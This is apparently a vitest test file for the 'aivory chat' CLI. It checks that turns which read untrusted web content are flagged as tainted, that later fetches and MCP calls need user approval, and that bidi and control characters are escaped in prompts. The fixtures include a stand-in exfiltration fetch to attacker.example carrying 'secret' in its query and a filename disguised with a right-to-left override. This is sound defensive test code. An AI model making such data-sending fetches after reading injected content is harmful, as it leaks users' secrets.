/**
 * What `aivory chat` shows of a tainted turn: the one-line notice (`turn-tainted` on the trace;
 * `--json` prints the event as it is), and the terminal approver's prompts with the reason — a
 * web_fetch that would send data to a new site takes y/N only.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openStore } from '../../../src/main/adapters/sqlite/sqlite-store';
import { conversationsCommand } from '../../../src/main/cli/conversations-command';
import type { AppContext } from '../../../src/main/composition/app-context';
import { cliApprover } from '../../../src/main/cli/cli-approver';
import type { CliIo } from '../../../src/main/cli/cli-io';
import { eventJson, traceLine } from '../../../src/main/cli/trace-format';
import type { ApprovalRequest } from '../../../src/main/core/ports';

function terminal(answer: string) {
  const stderr: string[] = [];
  const questions: string[] = [];
  const io: CliIo = {
    stdout: () => undefined,
    stderr: (text) => stderr.push(text),
    dim: (text) => text,
    env: {},
    onInterrupt: () => undefined,
    offInterrupt: () => undefined,
    ask: (question) => {
      questions.push(question);
      return Promise.resolve(answer);
    },
  };
  return { io, stderr, questions };
}

const TAINT = [{ tool: 'web_fetch', detail: 'https://evil.example/recipes' }];

const FETCH: ApprovalRequest = {
  kind: 'web-fetch',
  toolName: 'web_fetch',
  service: 'built-in',
  tool: 'web_fetch',
  arguments: { url: 'https://attacker.example/c?q=secret' },
  conversationId: 'c1',
  readOnlyHint: false,
  destructiveHint: false,
  reason: 'This page was found after reading untrusted content and would send data in its address.',
  taint: TAINT,
};

describe('aivory chat and a tainted turn', () => {
  it('prints one notice line when the turn becomes tainted; --json prints the event', () => {
    const event = {
      type: 'turn-tainted' as const,
      turnId: 't1',
      toolCallId: 'c1',
      reasons: TAINT,
    };
    expect(traceLine(event)).toBe(
      '  ! this turn read untrusted content (web_fetch https://evil.example/recipes): from now on MCP calls and fetches sending data to new sites ask first, and memories wait for your confirmation',
    );
    expect(eventJson(event)).toBe(
      '{"type":"turn-tainted","turnId":"t1","toolCallId":"c1","reasons":[{"tool":"web_fetch","detail":"https://evil.example/recipes"}]}',
    );
  });

  it('--approve none gives no approver (tainted calls are refused); all allows', async () => {
    expect(cliApprover('none', terminal('y').io)).toBeUndefined();
    expect(await cliApprover('all', terminal('').io)?.(FETCH, new AbortController().signal)).toBe(
      'once',
    );
  });

  it('asks about a query-carrying fetch with the reason and what tainted the turn', async () => {
    const yes = terminal('y');
    const signal = new AbortController().signal;
    expect(await cliApprover('ask', yes.io)?.(FETCH, signal)).toBe('once');
    expect(yes.stderr.join('')).toBe(
      '\nweb_fetch wants to open https://attacker.example/c?q=secret\nAsked because: This page was found after reading untrusted content and would send data in its address. (read: web_fetch https://evil.example/recipes)\n',
    );
    expect(yes.questions).toEqual(['Allow this fetch? [y] yes · [N] deny: ']);
    // "a" (always) means nothing for a fetch: anything but y denies.
    expect(await cliApprover('ask', terminal('a').io)?.(FETCH, signal)).toBe('deny');
  });

  it('an MCP prompt in a tainted turn says why it asks', async () => {
    const ask = terminal('c');
    const answer = await cliApprover('ask', ask.io)?.(
      {
        kind: 'mcp',
        toolName: 'Files__search',
        service: 'Files',
        tool: 'search',
        arguments: { q: 'x' },
        conversationId: 'c1',
        readOnlyHint: true,
        destructiveHint: false,
        reason: 'This call comes after the turn read untrusted content.',
        taint: TAINT,
      },
      new AbortController().signal,
    );
    expect(answer).toBe('conversation');
    expect(ask.stderr.join('')).toContain('MCP tool search of "Files" (says it is read-only)');
    expect(ask.stderr.join('')).toContain(
      'Asked because: This call comes after the turn read untrusted content. (read: web_fetch https://evil.example/recipes)\n',
    );
  });

  it('writes out bidi overrides, zero-width and control characters instead of printing them', async () => {
    const ask = terminal('n');
    await cliApprover('ask', ask.io)?.(
      {
        kind: 'mcp',
        toolName: 'Files__save',
        service: 'Files\u200b',
        tool: 'save\u202e',
        arguments: { name: 'invoice\u202efdp.exe', note: '\u001b[2Jclear' },
        conversationId: 'c1',
        readOnlyHint: false,
        destructiveHint: false,
      },
      new AbortController().signal,
    );
    const printed = ask.stderr.join('');
    expect(printed).toContain('MCP tool save\\u{202e} of "Files\\u{200b}"');
    expect(printed).toContain('"name": "invoice\\u{202e}fdp.exe"');
    // JSON already escapes C0 controls; nothing raw is left either way.
    expect(printed).toContain('"note": "\\u001b[2Jclear"');
    for (const hidden of ['\u202e', '\u200b', '\u001b']) expect(printed).not.toContain(hidden);

    const fetch = terminal('n');
    await cliApprover('ask', fetch.io)?.(
      { ...FETCH, arguments: { url: 'https://evil.example/\u202egnp.exe?q=1' } },
      new AbortController().signal,
    );
    expect(fetch.stderr.join('')).toContain(
      'web_fetch wants to open https://evil.example/\\u{202e}gnp.exe?q=1\n',
    );
  });

  it('conversations show prints the notice under the result that tainted the turn, after a restart too', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'aivory-taint-show-')), 'aivory.db');
    const store = openStore(path);
    store.conversations.createConversation({ id: 'c1', title: 'Recipes', modelId: null });
    store.conversations.createMessage({
      id: 'a1',
      conversationId: 'c1',
      role: 'assistant',
      status: 'complete',
      parts: [
        { kind: 'tool-call', toolCallId: 'k1', name: 'web_fetch', arguments: { url: 'x' } },
        {
          kind: 'tool-result',
          toolCallId: 'k1',
          name: 'web_fetch',
          status: 'ok',
          output: 'Title: Recipes',
          durationMs: 12,
        },
        { kind: 'text', text: 'Here is the recipe.' },
      ],
    });
    store.conversations.saveTurnRecord({
      id: 't1',
      conversationId: 'c1',
      messageId: 'a1',
      modelId: null,
      modelName: 'scripted-model',
      stopReason: 'completed',
      toolCalls: { web_fetch: 1 },
      providerRounds: 2,
      startedAt: 1,
      durationMs: 20,
      errorCode: null,
      errorMessage: null,
      budget: null,
      usage: null,
      taint: { toolCallId: 'k1', reasons: TAINT },
    });
    store.close();

    const reopened = openStore(path);
    const out: string[] = [];
    const io = { ...terminal('').io, stdout: (text: string) => out.push(text) };
    await conversationsCommand(['show', 'c1'], { stores: reopened } as unknown as AppContext, io);
    reopened.close();
    expect(out.join('')).toBe(
      [
        'Recipes  (c1)',
        '  turns: 1 · models: scripted-model · tokens: 0 in, 0 out (1 unreported)',
        '',
        'assistant:',
        '  → web_fetch {"url":"x"}',
        '  ✓ web_fetch ok (12 ms): Title: Recipes',
        '  ! this turn read untrusted content (web_fetch https://evil.example/recipes): from now on MCP calls and fetches sending data to new sites ask first, and memories wait for your confirmation',
        'Here is the recipe.',
        '',
      ].join('\n'),
    );
  });
});
